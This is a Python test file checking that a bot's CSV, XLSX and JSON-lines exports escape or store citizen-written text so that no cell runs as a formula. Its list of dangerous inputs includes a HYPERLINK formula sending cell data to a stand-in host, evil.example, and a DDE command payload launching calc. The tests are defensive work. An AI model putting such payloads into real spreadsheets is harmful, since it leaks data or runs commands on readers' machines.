"""Tables for spreadsheets: whatever a citizen wrote, no cell is calculated on the reader's machine."""

from __future__ import annotations

import csv
import json
from io import BytesIO, StringIO

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from bot.proposals.sheets import csv_file, jsonl_file, plain, safe, xlsx_file

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "  =1+1",
    "\r=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=cmd|' /C calc'!A0",
    "＝1+1",
    "|calc",
    "%0A",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_csv_cell_never_begins_like_a_formula(text: str) -> None:
    """It gets an apostrophe in front, and can be read back to the letter."""
    written = csv_file([{"wording": text}], ["wording"]).decode("utf-8-sig")
    _, (cell,) = csv.reader(StringIO(written, newline=""))
    assert cell == "'" + text
    assert plain(cell) == text


def opened(made: bytes) -> Worksheet:
    """The sheet of a workbook."""
    sheet = openpyxl.load_workbook(BytesIO(made)).active
    assert isinstance(sheet, Worksheet)
    return sheet


@pytest.mark.parametrize("text", DANGEROUS)
def test_an_xlsx_cell_is_a_string(text: str) -> None:
    """Openpyxl would take it for a formula, and so would a spreadsheet."""
    made = xlsx_file([{"wording": text, "supports": 7}], ["wording", "supports"], {}, "t")
    row = next(iter(opened(made).iter_rows(min_row=2)))
    assert [cell.data_type for cell in row] == ["s", "n"]
    assert str(row[0].value).strip() == text.strip()
    assert row[1].value == 7


@given(st.text(max_size=40))
def test_marking_and_unmarking_gives_the_text_back(text: str) -> None:
    """Also where it begins with an apostrophe of its own."""
    marked = safe(text)
    assert isinstance(marked, str)
    assert plain(marked) == text
    assert not marked.lstrip().startswith(("=", "+", "-", "@"))


def test_json_lines_hold_the_text_as_it_is() -> None:
    """Programs need no marks."""
    assert json.loads(jsonl_file([{"wording": "=1+1\n\u202e"}])) == {"wording": "=1+1\n\u202e"}


def test_characters_that_a_workbook_cannot_hold_are_replaced() -> None:
    """The rest of the table is not lost for them."""
    made = xlsx_file([{"wording": "a\x00b\x0bc😀"}], ["wording"], {"wording": "Предложение"}, "t")
    sheet = opened(made)
    assert [cell.value for cell in sheet["A"]] == ["Предложение", "a�b�c😀"]
